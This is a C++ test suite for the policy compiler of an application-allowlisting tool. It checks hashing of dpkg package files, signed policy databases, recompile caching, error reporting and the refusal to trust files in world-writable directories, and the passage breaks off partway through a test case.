#include "policy/compiler.h"

#include <doctest/doctest.h>
#include <sys/stat.h>
#include <unistd.h>

#include <algorithm>
#include <filesystem>
#include <string>
#include <vector>

#include "common/io.h"
#include "hashdb/keys.h"
#include "hashdb/sha256.h"
#include "hashdb/store.h"
#include "policy/file_signature.h"
#include "policy/trust_sources.h"
#include "tests/support/temp_dir.h"

using namespace tollgate;
using namespace tollgate::policy;
namespace fs = std::filesystem;

namespace {

std::string md5_hex(const std::string& data) { return hashdb::to_hex(hashdb::md5_bytes(data)); }

std::string sha_hex(const std::string& path) {
  auto d = hashdb::sha256_path(path);
  REQUIRE(d);
  return hashdb::to_hex(*d);
}

void mkdirs(const std::string& p) { fs::create_directories(p); }

// Fixtures live in a temporary directory, which fails the ownership rule
// (/tmp is world-writable, and for a non-root test run nothing in it is
// root-owned): entries whose files must be trusted opt in, as an admin would.
const std::string kWritable = "    allow_writable: true\n    reason: test fixture in a temporary directory\n";

// A fake dpkg database under `root`: package "good" (installed) with an
// executable, a shared library without exec bit, a documentation file and a
// tampered executable; package "gone" (removed, config files left) whose
// files must be ignored.
struct FakeDpkg {
  std::string admindir, good_bin, good_lib, doc, tampered, gone_bin, conffile;

  explicit FakeDpkg(const std::string& root) {
    admindir = root + "/dpkg";
    std::string files = root + "/pkgroot";
    mkdirs(admindir + "/info");
    mkdirs(files + "/usr/bin");
    mkdirs(files + "/usr/lib");
    mkdirs(files + "/usr/share/doc/good");
    good_bin = files + "/usr/bin/good";
    good_lib = files + "/usr/lib/libgood.so.1";
    doc = files + "/usr/share/doc/good/README";
    tampered = files + "/usr/bin/tampered";
    gone_bin = files + "/usr/bin/gone";
    const std::string bin_body = "#!/bin/sh\necho good\n";
    const std::string lib_body =
        "\x7f"
        "ELF fake library";
    const std::string doc_body = "documentation\n";
    const std::string tampered_body = "#!/bin/sh\necho original\n";
    testing::write_text(good_bin, bin_body, 0755);
    testing::write_text(good_lib, lib_body, 0644);
    testing::write_text(doc, doc_body, 0644);
    testing::write_text(tampered, "#!/bin/sh\necho miner\n", 0755);  // differs from its md5sum
    testing::write_text(gone_bin, "#!/bin/sh\necho gone\n", 0755);
    conffile = files + "/etc/cron.daily/good";
    mkdirs(files + "/etc/cron.daily");
    const std::string conf_body = "#!/bin/sh\necho daily\n";
    testing::write_text(conffile, conf_body, 0755);
    testing::write_text(admindir + "/status",
                        "Package: good\nStatus: install ok installed\nArchitecture: amd64\nVersion: 1\n"
                        "Conffiles:\n " +
                            conffile + " " + md5_hex(conf_body) + "\n /etc/gone.conf " + std::string(32, '0') +
                            " obsolete\nDescription: good\n more text\n\n"
                            "Package: gone\nStatus: deinstall ok config-files\nArchitecture: amd64\nVersion: 1\n");
    auto rel = [](const std::string& p) { return p.substr(1); };
    testing::write_text(admindir + "/info/good.list", "/.\n" + files + "\n" + files + "/usr\n" + files + "/usr/bin\n" +
                                                          good_bin + "\n" + good_lib + "\n" + doc + "\n" + tampered +
                                                          "\n" + conffile + "\n");
    testing::write_text(admindir + "/info/good.md5sums", md5_hex(bin_body) + "  " + rel(good_bin) + "\n" +
                                                             md5_hex(lib_body) + "  " + rel(good_lib) + "\n" +
                                                             md5_hex(doc_body) + "  " + rel(doc) + "\n" +
                                                             md5_hex(tampered_body) + "  " + rel(tampered) + "\n");
    testing::write_text(admindir + "/info/gone.list", gone_bin + "\n");
  }

  // ADMINDIR/info/NAME, as dpkg leaves a maintainer script ("good.postinst").
  std::string add_info(const std::string& name, const std::string& body, mode_t mode = 0755) {
    std::string path = admindir + "/info/" + name;
    testing::write_text(path, body, mode);
    return path;
  }
};

struct Keys {
  std::string key_path, pub_path;
  hashdb::KeyPair pair;
  Keys(const testing::TempDir& dir, const std::string& name) {
    auto k = hashdb::generate_keypair();
    REQUIRE(k);
    pair = *k;
    key_path = dir.file(name + ".key");
    pub_path = dir.file(name + ".pub");
    testing::write_text(key_path, pair.private_pem, 0600);
    testing::write_text(pub_path, pair.public_key.pem);
  }
};

std::shared_ptr<const hashdb::PolicyStore> open_db(const std::string& path) {
  auto s = hashdb::PolicyStore::open(path);
  REQUIRE_MESSAGE(s, s.error().message());
  return *s;
}

std::optional<hashdb::HashRule> rule_for(const hashdb::PolicyStore& s, const std::string& hex) {
  auto r = s.find_hash(*hashdb::sha256_from_hex(hex));
  REQUIRE(r);
  return *r;
}

Result<CompileSummary> compile(const std::string& manifest, const std::string& out, const std::string& admindir = "",
                               unsigned jobs = 0) {
  CompileOptions o{.manifest_path = manifest, .output_path = out, .jobs = jobs};
  if (!admindir.empty()) o.dpkg_admindir = admindir;
  return compile_policy(o);
}

}  // namespace

TEST_SUITE("policy.compiler") {
  TEST_CASE(
      "done when: dpkg, a bin dir, a pinned file and a signer, denying a hash and /tmp/, compile signed and "
      "verify") {
    testing::TempDir dir;
    FakeDpkg dpkg(dir.path());
    Keys signing(dir, "signing");
    Keys release(dir, "release");
    mkdirs(dir.file("local/bin/sub"));
    testing::write_text(dir.file("local/bin/tool"), "#!/bin/sh\necho tool\n", 0755);
    testing::write_text(dir.file("local/bin/sub/other"), "#!/bin/sh\necho other\n", 0755);
    testing::write_text(dir.file("local/bin/notes.txt"), "not a program\n", 0644);
    testing::write_text(dir.file("pinned"), "#!/bin/sh\necho pinned\n", 0755);
    const std::string miner(64, 'e');
    testing::write_text(dir.file("policy.yaml"),
                        "version: 1\n"
                        "name: done-when\n"
                        "allow:\n"
                        "  - package_manager: dpkg\n"
                        "  - dir: " +
                            dir.file("local/bin") + "\n" + kWritable + "  - file: " + dir.file("pinned") +
                            "\n"
                            "    label: pinned\n" +
                            kWritable +
                            "  - signer: release.pub\n"
                            "    label: release\n"
                            "deny:\n"
                            "  - sha256: " +
                            miner +
                            "\n"
                            "    label: known miner\n"
                            "  - path_prefix: /tmp\n");
    const std::string db = dir.file("policy.db");
    CompileOptions o{.manifest_path = dir.file("policy.yaml"),
                     .output_path = db,
                     .signing_key_path = signing.key_path,
                     .dpkg_admindir = dpkg.admindir};
    auto s = compile_policy(o);
    REQUIRE_MESSAGE(s, s.error().message());
    CHECK(s->generation == 1);
    CHECK(s->signer_key_id == hashdb::to_hex(signing.pair.public_key.key_id));
    CHECK(s->rules.hash_allow == 6);  // good, libgood.so.1, the conffile, tool, other, pinned
    CHECK(s->rules.hash_deny == 1);
    CHECK(s->rules.path_deny == 1);
    CHECK(s->rules.signers == 1);
    REQUIRE(s->modified_package_files.size() == 1);
    CHECK(s->modified_package_files[0].path == dpkg.tampered);
    CHECK(s->modified_package_files[0].package == "good");
    CHECK(s->to_text().find("modified package files (NOT trusted): 1") != std::string::npos);

    auto store = open_db(db);
    auto good = rule_for(*store, sha_hex(dpkg.good_bin));
    REQUIRE(good);
    CHECK(good->label == "dpkg:good");
    CHECK(good->origin_path == dpkg.good_bin);
    CHECK(good->source.file == dir.file("policy.yaml"));
    CHECK(good->source.line == 4);
    CHECK(rule_for(*store, sha_hex(dpkg.good_lib)));
    CHECK(rule_for(*store, sha_hex(dpkg.conffile)));        // verified against status' Conffiles md5
    CHECK_FALSE(rule_for(*store, sha_hex(dpkg.tampered)));  // md5 mismatch: not trusted
    CHECK_FALSE(rule_for(*store, sha_hex(dpkg.doc)));       // not an executable
    CHECK_FALSE(rule_for(*store, sha_hex(dpkg.gone_bin)));  // package not installed
    CHECK_FALSE(rule_for(*store, sha_hex(dir.file("local/bin/notes.txt"))));
    auto pinned = rule_for(*store, sha_hex(dir.file("pinned")));
    REQUIRE(pinned);
    CHECK(pinned->label == "pinned");
    CHECK(pinned->source.line == 8);
    auto deny = rule_for(*store, miner);
    REQUIRE(deny);
    CHECK(deny->action == hashdb::Action::kDeny);
    REQUIRE(store->path_rules().size() == 1);
    CHECK(store->path_rules()[0].path == "/tmp/");
    CHECK(store->path_rules()[0].match == hashdb::PathMatch::kPrefix);
    REQUIRE(store->signers().size() == 1);
    CHECK(store->signers()[0].key_id == release.pair.public_key.key_id);
    struct stat st {};
    REQUIRE(::stat(db.c_str(), &st) == 0);
    CHECK((st.st_mode & 07777) == 0644);

    auto verify = testing::run({testing::built_binary("tollgate"), "db", "verify", db, "--pubkey", signing.pub_path});
    CHECK_MESSAGE(verify.exit_code == 0, verify.err);
    auto wrong = testing::run({testing::built_binary("tollgate"), "db", "verify", db, "--pubkey", release.pub_path});
    CHECK(wrong.exit_code == 4);
  }

  // Reads this machine's dpkg database: ctest label `host` (policy_host_test).
  TEST_CASE("done when, on this host: the real dpkg database limited to coreutils and bash" *
            doctest::test_suite("policy.compiler.host")) {
    testing::TempDir dir;
    Keys signing(dir, "signing");
    testing::write_text(dir.file("pinned"), "#!/bin/sh\necho pinned\n", 0755);
    mkdirs(dir.file("local/bin"));
    testing::write_text(dir.file("local/bin/tool"), "#!/bin/sh\necho tool\n", 0755);
    testing::write_text(dir.file("policy.yaml"),
                        "version: 1\n"
                        "allow:\n"
                        "  - package_manager: dpkg\n"
                        "    packages: [coreutils, bash]\n"
                        "  - dir: " +
                            dir.file("local/bin") +
                            "\n"
                            "  - file: " +
                            dir.file("pinned") +
                            "\n"
                            "  - signer: signing.pub\n"
                            "deny:\n"
                            "  - sha256: " +
                            std::string(64, 'd') +
                            "\n"
                            "  - path_prefix: /tmp/\n");
    const std::string db = dir.file("policy.db");
    auto s = compile_policy(
        {.manifest_path = dir.file("policy.yaml"), .output_path = db, .signing_key_path = signing.key_path});
    REQUIRE_MESSAGE(s, s.error().message());
    CHECK(s->modified_package_files.empty());
    auto store = open_db(db);
    for (const char* prog : {"/usr/bin/ls", "/usr/bin/cat", "/usr/bin/bash"}) {
      auto r = rule_for(*store, sha_hex(prog));
      REQUIRE_MESSAGE(r, prog);
      CHECK(r->label.starts_with("dpkg:"));
    }
    auto verify = testing::run({testing::built_binary("tollgate"), "db", "verify", db, "--pubkey", signing.pub_path});
    CHECK_MESSAGE(verify.exit_code == 0, verify.err);
  }

  TEST_CASE("a recompile reuses unchanged files, rehashes a changed one and bumps the generation") {
    testing::TempDir dir;
    FakeDpkg dpkg(dir.path());
    mkdirs(dir.file("bin"));
    for (int i = 0; i < 20; ++i)
      testing::write_text(dir.file("bin/p" + std::to_string(i)), "#!/bin/sh\necho " + std::to_string(i) + "\n", 0755);
    testing::write_text(dir.file("m.yaml"), "version: 1\nallow:\n  - dir: " + dir.file("bin") + "\n" + kWritable +
                                                "  - package_manager: dpkg\n");
    const std::string db = dir.file("p.db");
    auto first = compile(dir.file("m.yaml"), db, dpkg.admindir);
    REQUIRE_MESSAGE(first, first.error().message());
    CHECK(first->files_hashed == 24);  // 20 + good + libgood + conffile + tampered (hashed, then refused)
    CHECK(first->files_reused == 0);
    auto second = compile(dir.file("m.yaml"), db, dpkg.admindir);
    REQUIRE(second);
    CHECK(second->generation == 2);
    CHECK(second->files_reused == 23);
    CHECK(second->files_hashed == 1);  // the tampered dpkg file is verified again every time
    CHECK(second->modified_package_files.size() == 1);
    CHECK(second->content_digest == first->content_digest);

    testing::write_text(dir.file("bin/p3"), "#!/bin/sh\necho changed, and longer\n", 0755);
    auto third = compile(dir.file("m.yaml"), db, dpkg.admindir);
    REQUIRE(third);
    CHECK(third->generation == 3);
    CHECK(third->files_hashed == 2);
    CHECK(third->files_reused == 22);
    CHECK(third->content_digest != first->content_digest);
    CHECK(rule_for(*open_db(db), sha_hex(dir.file("bin/p3"))));
  }

  TEST_CASE("the same inputs give the same content digest, whatever the output path or thread count") {
    testing::TempDir dir;
    mkdirs(dir.file("bin/a/b"));
    for (int i = 0; i < 50; ++i)
      testing::write_text(dir.file((i % 2 ? "bin/a/b/x" : "bin/y") + std::to_string(i)),
                          "#!/bin/sh\necho " + std::to_string(i % 7) + "\n", 0755);  // duplicate contents too
    testing::write_text(dir.file("m.yaml"), "version: 1\nallow:\n  - dir: " + dir.file("bin") + "\n" + kWritable);
    auto a = compile(dir.file("m.yaml"), dir.file("a.db"), "", 1);
    auto b = compile(dir.file("m.yaml"), dir.file("b.db"), "", 4);
    REQUIRE(a);
    REQUIRE(b);
    CHECK(a->content_digest == b->content_digest);
    CHECK(a->rules.hash_allow == 7);
    CHECK(a->duplicate_hashes == 43);
    // Of identical files, the rule names the lexicographically smallest path.
    auto r = rule_for(*open_db(dir.file("a.db")), sha_hex(dir.file("bin/y0")));
    REQUIRE(r);
    CHECK(r->origin_path == dir.file("bin/a/b/x21"));
  }

  TEST_CASE("a failing compile leaves the previous database byte-identical") {
    testing::TempDir dir;
    testing::write_text(dir.file("tool"), "#!/bin/sh\n", 0755);
    testing::write_text(dir.file("m.yaml"), "version: 1\nallow:\n  - file: " + dir.file("tool") + "\n");
    const std::string db = dir.file("p.db");
    REQUIRE(compile(dir.file("m.yaml"), db));
    const std::string before = testing::read_text(db);

    // A validation error in the manifest.
    testing::write_text(dir.file("m.yaml"), "version: 1\nallow:\n  - file: " + dir.file("gone") + "\n");
    auto missing = compile(dir.file("m.yaml"), db);
    REQUIRE_FALSE(missing);
    CHECK(missing.error().code() == ErrorCode::kInvalidInput);
    CHECK(missing.error().message() == dir.file("m.yaml") + ":3:5: file " + dir.file("gone") +
                                           " does not exist (add 'optional: true' if it may be absent)");
    CHECK(testing::read_text(db) == before);

    // A conflict found only after hashing: the file's hash is also denied.
    testing::write_text(dir.file("m.yaml"), "version: 1\nallow:\n  - file: " + dir.file("tool") + "\n" + kWritable +
                                                "deny:\n  - sha256: " + sha_hex(dir.file("tool")) + "\n");
    auto conflict = compile(dir.file("m.yaml"), db);
    REQUIRE_FALSE(conflict);
    CHECK(conflict.error().message() == dir.file("m.yaml") + ":7:5: hash " + sha_hex(dir.file("tool")) +
                                            " is denied here but allowed at " + dir.file("m.yaml") + ":3:5 (" +
                                            dir.file("tool") + ")");
    CHECK(testing::read_text(db) == before);

    // An unreadable signing key.
    CompileOptions o{.manifest_path = dir.file("m.yaml"), .output_path = db, .signing_key_path = dir.file("no.key")};
    CHECK_FALSE(compile_policy(o));
    CHECK(testing::read_text(db) == before);

    // A foreign file at the output path is not overwritten.
    testing::write_text(dir.file("notes.txt"), "precious\n");
    testing::write_text(dir.file("m.yaml"), "version: 1\nallow:\n  - file: " + dir.file("tool") + "\n");
    auto foreign = compile(dir.file("m.yaml"), dir.file("notes.txt"));
    REQUIRE_FALSE(foreign);
    CHECK(testing::read_text(dir.file("notes.txt")) == "precious\n");
  }

  TEST_CASE("compile-time errors carry the entry's FILE:LINE:COL") {
    testing::TempDir dir;
    FakeDpkg dpkg(dir.path());
    testing::write_text(dir.file("m.yaml"),
                        "version: 1\n"
                        "allow:\n"
                        "  - dir: " +
                            dir.file("nodir") +
                            "\n"
                            "  - signer: missing.pub\n"
                            "  - package_manager: dpkg\n"
                            "    packages: [good, absent]\n"
                            "  - file: " +
                            dir.file("fifo") + "\n");
    REQUIRE(::mkfifo(dir.file("fifo").c_str(), 0644) == 0);
    auto s = compile(dir.file("m.yaml"), dir.file("p.db"), dpkg.admindir);
    REQUIRE_FALSE(s);
    const std::string f = dir.file("m.yaml");
    CHECK(s.error().message() ==
          f + ":3:5: dir: " + dir.file("nodir") + ": cannot open directory: No such file or directory\n" + f +
              ":4:5: signer: " + dir.file("missing.pub") + ": cannot open: No such file or directory\n" + f +
              ":5:5: package 'absent' is not installed (per " + dpkg.admindir + "/status)");
    CHECK_FALSE(fs::exists(dir.file("p.db")));

    testing::write_text(dir.file("m.yaml"), "version: 1\nallow:\n  - file: " + dir.file("fifo") + "\n");
    auto fifo = compile(dir.file("m.yaml"), dir.file("p.db"));
    REQUIRE_FALSE(fifo);
    CHECK(fifo.error().message() == f + ":3:5: cannot hash " + dir.file("fifo") + ": not a regular file");
  }

  TEST_CASE("directory walks skip symlinks, loops, FIFOs and excluded files, and honour match and recursive") {
    testing::TempDir dir;
    mkdirs(dir.file("t/sub/deeper"));
    testing::write_text(dir.file("t/exe"), "#!/bin/sh\n", 0755);
    testing::write_text(dir.file("t/script-noexec"), "#!/bin/sh\necho x\n", 0644);
    testing::write_text(dir.file("t/elf-noexec"),
                        "\x7f"
                        "ELFxx",
                        0644);
    testing::write_text(dir.file("t/libx.so.2"), "not really elf", 0644);
    testing::write_text(dir.file("t/readme"), "text", 0644);
    testing::write_text(dir.file("t/keep.bak"), "#!/bin/sh\n#bak\n", 0755);
    testing::write_text(dir.file("t/sub/deeper/nested"), "#!/bin/sh\n#nested\n", 0755);
    testing::write_text(dir.file("outside"), "#!/bin/sh\n#outside\n", 0755);
    fs::create_symlink(dir.file("outside"), dir.file("t/link-out"));
    fs::create_directory_symlink(dir.file("t"), dir.file("t/sub/loop"));
    REQUIRE(::mkfifo(dir.file("t/fifo").c_str(), 0755) == 0);

    struct Case {
      const char* opts;
      uint64_t rules;
    };
    for (const Case& c : std::vector<Case>{{"", 5},  // exe, script, elf, libx.so.2, nested
                                           {"\n    match: all", 6},
                                           {"\n    match: elf", 1},
                                           {"\n    recursive: false", 4},
                                           {"\n    exclude: ['*.so.*', 'sub']", 4}}) {
      CAPTURE(c.opts);
      std::string text = "version: 1\nallow:\n  - dir: " + dir.file("t") + c.opts + "\n";
      if (std::string(c.opts).find("exclude") == std::string::npos) text += "    exclude: ['*.bak']\n";
      text += kWritable;
      testing::write_text(dir.file("m.yaml"), text);
      CompileOptions o{.manifest_path = dir.file("m.yaml"), .dry_run = true};
      auto dry = compile_policy(o);
      REQUIRE_MESSAGE(dry, dry.error().message());
      CHECK(dry->rules.hash_allow == c.rules);
      CHECK(dry->skipped_by_reason["not a regular file"] == 1);  // the FIFO, never opened for hashing
    }
  }

  TEST_CASE("overlapping dir entries each cover their whole tree") {
    testing::TempDir dir;
    mkdirs(dir.file("usr/bin"));
    testing::write_text(dir.file("usr/bin/script"), "#!/bin/sh\necho overlap\n", 0644);
    const std::string script_hex = sha_hex(dir.file("usr/bin/script"));

    // An allow of usr (every file) around an allow of usr/bin (ELF only):
    // the outer walk must not stop at the inner entry's root.
    testing::write_text(dir.file("allow.yaml"),
                        "version: 1\nallow:\n  - dir: " + dir.file("usr") + "\n    match: all\n" + kWritable +
                            "  - dir: " + dir.file("usr/bin") + "\n    match: elf\n" + kWritable);
    auto both = compile(dir.file("allow.yaml"), dir.file("allow.db"));
    REQUIRE_MESSAGE(both, both.error().message());
    CHECK(rule_for(*open_db(dir.file("allow.db")), script_hex).has_value());

    // A deny of usr around an allow of usr/bin: the script is both allowed and
    // denied, which is a conflict, not a silent allow.
    testing::write_text(dir.file("conflict.yaml"), "version: 1\nallow:\n  - dir: " + dir.file("usr/bin") +
                                                       "\n    match: all\n" + kWritable +
                                                       "deny:\n  - dir: " + dir.file("usr") + "\n    match: all\n");
    auto conflict = compile(dir.file("conflict.yaml"), dir.file("conflict.db"));
    REQUIRE_FALSE(conflict);
    CHECK(conflict.error().message().find(script_hex) != std::string::npos);
  }

  TEST_CASE("expired entries are skipped with a warning and optional files may be absent") {
    testing::TempDir dir;
    testing::write_text(dir.file("m.yaml"),
                        "version: 1\n"
                        "allow:\n"
                        "  - path: /opt/old/tool\n"
                        "    expires: 2001-01-01\n"
                        "  - path: /opt/new/tool\n"
                        "    expires: 2999-01-01T00:00:00Z\n"
                        "  - file: " +
                            dir.file("absent") +
                            "\n"
                            "    optional: true\n");
    auto s = compile_policy({.manifest_path = dir.file("m.yaml"), .dry_run = true});
    REQUIRE_MESSAGE(s, s.error().message());
    CHECK(s->expired_entries == 1);
    CHECK(s->rules.path_allow == 1);
    REQUIRE(s->warnings.size() == 2);
    CHECK(s->warnings[0] == dir.file("m.yaml") + ":3:5: path entry expired on 2001-01-01; skipped");
    CHECK(s->warnings[1] ==
          dir.file("m.yaml") + ":7:5: optional file " + dir.file("absent") + " does not exist; skipped");
    CHECK(s->dry_run);
    CHECK(s->content_digest.size() == 64);
    CHECK(s->to_json()["expired_entries"] == 1);
  }

  TEST_CASE("approval entries keep their approver, ticket and origin in the hash rule") {
    testing::TempDir dir;
    testing::write_text(dir.file("tool"), "#!/bin/sh\necho tool\n", 0755);
    const std::string hex = sha_hex(dir.file("tool"));
    testing::write_text(dir.file("approvals.yaml"),
                        "allow:\n"
                        "  - sha256: " +
                            hex +
                            "\n"
                            "    origin: /opt/app/bin/tool\n"
                            "    label: tool\n"
                            "    ticket: OPS-12\n"
                            "    approved_by: alice\n"
                            "    approved_at: 2026-12-01T10:00:00Z\n");
    testing::write_text(dir.file("m.yaml"),
                        "version: 1\ninclude: [approvals.yaml, approvals.d/*.yaml]\nallow:\n"
                        "  - file: " +
                            dir.file("tool") + "\n" + kWritable);
    auto s = compile(dir.file("m.yaml"), dir.file("p.db"));
    REQUIRE_MESSAGE(s, s.error().message());
    CHECK(s->rules.hash_allow == 1);
    CHECK(s->duplicate_hashes == 1);
    auto r = rule_for(*open_db(dir.file("p.db")), hex);
    REQUIRE(r);
    CHECK(r->origin_path == "/opt/app/bin/tool");  // the explicit approval wins over the hashed file
    CHECK(r->approved_by == "alice");
    CHECK(r->approved_at == "2026-12-01T10:00:00Z");
    CHECK(r->label == "tool");
    CHECK(r->source.file == dir.file("approvals.yaml"));
    CHECK(r->source.line == 2);
  }

  TEST_CASE("signed files verify only with their key and content") {
    testing::TempDir dir;
    Keys k(dir, "k");
    Keys other(dir, "other");
    testing::write_text(dir.file("tool"), "#!/bin/sh\n", 0755);
    const std::string tool = testing::built_binary("tollgate");
    auto sign = testing::run({tool, "sign", dir.file("tool"), "--key", k.key_path, "--sidecar"});
    REQUIRE_MESSAGE(sign.exit_code == 0, sign.err);
    CHECK(fs::exists(dir.file("tool.sig")));
    CHECK(testing::run({tool, "verify-sig", dir.file("tool"), "--pubkey", k.pub_path}).exit_code == 0);
    CHECK(testing::run({tool, "verify-sig", dir.file("tool"), "--pubkey", other.pub_path}).exit_code == 1);
    testing::write_text(dir.file("tool"), "#!/bin/sh\necho tampered\n", 0755);
    CHECK(testing::run({tool, "verify-sig", dir.file("tool"), "--pubkey", k.pub_path}).exit_code == 1);
    testing::write_text(dir.file("unsigned"), "x", 0755);
    auto none = testing::run({tool, "verify-sig", dir.file("unsigned"), "--pubkey", k.pub_path});
    CHECK(none.exit_code == 1);
    CHECK(none.out.find("no signature") != std::string::npos);
    CHECK(testing::run({tool, "sign", dir.file("unsigned"), "--key", dir.file("nokey")}).exit_code == 3);
  }

  TEST_CASE("a signed compile reuses the file cache only from a database signed by the same key") {
    testing::TempDir dir;
    Keys k(dir, "k");
    testing::write_text(dir.file("tool"), "#!/bin/sh\n", 0755);
    testing::write_text(dir.file("m.yaml"), "version: 1\nallow:\n  - file: " + dir.file("tool") + "\n" + kWritable);
    const std::string db = dir.file("p.db");
    REQUIRE(compile(dir.file("m.yaml"), db));
    CompileOptions signed_opts{.manifest_path = dir.file("m.yaml"), .output_path = db, .signing_key_path = k.key_path};
    auto first = compile_policy(signed_opts);
    REQUIRE_MESSAGE(first, first.error().message());
    CHECK(first->generation == 2);
    CHECK(first->files_reused == 0);
    CHECK(first->files_hashed == 1);
    REQUIRE(first->warnings.size() == 1);
    CHECK(first->warnings[0].find("its file cache is not used") != std::string::npos);
    auto second = compile_policy(signed_opts);
    REQUIRE(second);
    CHECK(second->generation == 3);
    CHECK(second->files_reused == 1);
    CHECK(second->warnings.empty());
  }

  TEST_CASE("shared libraries are recognised by name, other .so-like names are not") {
    for (const char* yes : {"/usr/lib/libc.so.6", "/usr/lib/libfoo.so", "libssl.so.3.0.2", "/a/b/x.so"})
      CHECK_MESSAGE(is_shared_library_name(yes), yes);
    for (const char* no : {"/etc/ld.so.conf", "/etc/ld.so.cache", ".so", "/usr/share/x.sock", "/a/so.6", "libx.so.6a"})
      CHECK_FALSE_MESSAGE(is_shared_library_name(no), no);
  }

  TEST_CASE("a compile with the progress line and more workers than files gives the same rules") {
    testing::TempDir dir;
    fs::create_directories(dir.file("t/a/b/c"));
    testing::write_text(dir.file("t/a/b/c/x"), "#!/bin/sh\n", 0755);
    testing::write_text(dir.file("m.yaml"), "version: 1\nallow:\n  - dir: " + dir.file("t") + "\n" + kWritable);
    std::vector<CompileProgress> reports;
    CompileOptions o{
        .manifest_path = dir.file("m.yaml"), .jobs = 8, .dry_run = true, .progress = [&](const CompileProgress& p) {
          reports.push_back(p);
        }};
    auto a = compile_policy(o);
    REQUIRE_MESSAGE(a, a.error().message());
    REQUIRE_FALSE(reports.empty());
    CHECK(reports.back().finished);  // the last report, so the caller can clear its line
    CHECK(reports.back().files_done == 1);
    CHECK(std::count_if(reports.begin(), reports.end(), [](const auto& p) { return p.finished; }) == 1);
    o.jobs = 1;
    o.progress = nullptr;
    auto b = compile_policy(o);
    REQUIRE(b);
    CHECK(a->content_digest == b->content_digest);
    CHECK(a->rules.hash_allow == 1);
  }

  TEST_CASE("a file both in a dir entry and in dpkg keeps the dpkg rule, so the next compile reuses it") {
    testing::TempDir dir;
    FakeDpkg dpkg(dir.path());
    testing::write_text(dir.file("m.yaml"), "version: 1\nallow:\n  - dir: " + parent_dir(dpkg.good_bin) + "\n" +
                                                kWritable + "  - package_manager: dpkg\n    packages: [good]\n");
    const std::string db = dir.file("p.db");
    REQUIRE(compile(dir.file("m.yaml"), db, dpkg.admindir));
    auto r = rule_for(*open_db(db), sha_hex(dpkg.good_bin));
    REQUIRE(r);
    CHECK(r->label == "dpkg:good");
    CHECK(r->source.line == 6);
    auto again = compile(dir.file("m.yaml"), db, dpkg.admindir);
    REQUIRE(again);
    CHECK(again->files_hashed == 1);  // only the tampered file, verified every time
  }
}

// The compile-time ownership rule (issue 8): what the apt hook recompiles
// unattended must not approve a file an unprivileged user dropped.
TEST_SUITE("policy.compiler") {
  TEST_CASE("files in a temporary directory are not trusted, unless the entry opts in with a reason") {
    testing::TempDir dir;  // under /tmp: world-writable, whoever runs the test
    mkdirs(dir.file("drop"));
    testing::write_text(dir.file("drop/tool"), "#!/bin/sh\necho dropped\n", 0755);
    testing::write_text(dir.file("pinned"), "#!/bin/sh\necho pinned\n", 0755);
    const std::string hex = sha_hex(dir.file("drop/tool"));
    testing::write_text(dir.file("m.yaml"), "version: 1\nallow:\n  - dir: " + dir.file("drop") +
                                                "\n  - file: " + dir.file("pinned") + "\n");
    auto s = compile(dir.file("m.yaml"), dir.file("p.db"));
    REQUIRE_MESSAGE(s, s.error().message());  // listed, not an error
    CHECK(s->rules.hash_allow == 0);
    CHECK(s->files_hashed == 2);
    REQUIRE(s->untrusted_writable_total == 2);
    REQUIRE(s->untrusted_writable.size() == 2);
    CHECK(s->untrusted_writable[0].path == dir.file("drop/tool"));
    CHECK(s->untrusted_writable[0].entry == dir.file("m.yaml") + ":3:5");
    CHECK_FALSE(s->untrusted_writable[0].why.empty());
    CHECK(s->untrusted_writable[1].path == dir.file("pinned"));
    CHECK(s->untrusted_writable[1].entry == dir.file("m.yaml") + ":4:5");
    CHECK_FALSE(rule_for(*open_db(dir.file("p.db")), hex));
    CHECK(s->to_text().find("NOT trusted, an unprivileged user could have placed or changed them: 2") !=
          std::string::npos);
    CHECK(s->to_json()["writable"]["untrusted"] == 2);
    CHECK(s->to_json()["writable"]["untrusted_list"][0]["path"] == dir.file("drop/tool"));

    // Not cached either: the next compile looks at them again.
    auto again = compile(dir.file("m.yaml"), dir.file("p.db"));
    REQUIRE(again);
    CHECK(again->files_reused == 0);
    CHECK(again->untrusted_writable_total == 2);

    testing::write_text(dir.file("m.yaml"), "version: 1\nallow:\n  - dir: " + dir.file("drop") + "\n" + kWritable +
                                                "  - file: " + dir.file("pinned") + "\n");
    auto opted = compile(dir.file("m.yaml"), dir.file("p.db"));
    REQUIRE_MESSAGE(opted, opted.error().message());
    CHECK(opted->rules.hash_allow == 1);
    CHECK(rule_for(*open_db(dir.file("p.db")), hex));
    CHECK(opted->writable_allowed_total == 1);
    CHECK(opted->writable_allowed[0].path == dir.file("drop/tool"));
    CHECK(opted->untrusted_writable_total == 1);  // pinned: its entry did not opt in
    CHECK(opted->to_text().find("trusted although writable (allow_writable): 1") != std::string::npos);
  }

  TEST_CASE("--strict fails on a file that is not trusted, naming the entry, and writes nothing") {
    testing::TempDir dir;
    testing::write_text(dir.file("tool"), "#!/bin/sh\n", 0755);
    testing::write_text(dir.file("m.yaml"), "version: 1\nallow:\n  - file: " + dir.file("tool") + "\n");
    CompileOptions o{.manifest_path = dir.file("m.yaml"), .output_path = dir.file("p.db"), .strict = true};
    auto strict = compile_policy(o);
    REQUIRE_FALSE(strict);
    CHECK(strict.error().code() == ErrorCode::kInvalidInput);
    const std::string prefix = dir.file("m.yaml") + ":3:5: " + dir.file("tool") + " is not trusted (--strict): ";
    CHECK(strict.error().message().starts_with(prefix));
    CHECK(strict.error().message().ends_with("; add 'allow_writable: true' and a 'reason:' to trust it anyway"));
    CHECK_FALSE(fs::exists(dir.file("p.db")));

    // Opted in: --strict has nothing to object to.
    testing::write_text(dir.file("m.yaml"), "version: 1\nallow:\n  - file: " + dir.file("tool") + "\n" + kWritable);
    auto ok = compile_policy(o);
    REQUIRE_MESSAGE(ok, ok.error().message());
    CHECK(ok->rules.hash_allow == 1);
    // And deny entries are never checked.
    testing::write_text(dir.file("m.yaml"), "version: 1\ndeny:\n  - file: " + dir.file("tool") + "\n");
    auto deny = compile_policy(o);
    REQUIRE_MESSAGE(deny, deny.error().message());
    CHECK(deny->rules.hash_deny == 1);
    CHECK(deny->untrusted_writable_total == 0);
  }

  TEST_CASE("dpkg files are exempt from the ownership rule: their md5 is verified wherever they sit") {
    testing::TempDir dir;  // world-writable /tmp above the fake package files
    FakeDpkg dpkg(dir.path());
    testing::write_text(dir.file("m.yaml"), "version: 1\nallow:\n  - package_manager: dpkg\n    packages: [good]\n");
    CompileOptions o{.manifest_path = dir.file("m.yaml"),
                     .output_path = dir.file("p.db"),
                     .dpkg_admindir = dpkg.admindir,
                     .strict = true};
    auto s = compile_policy(o);
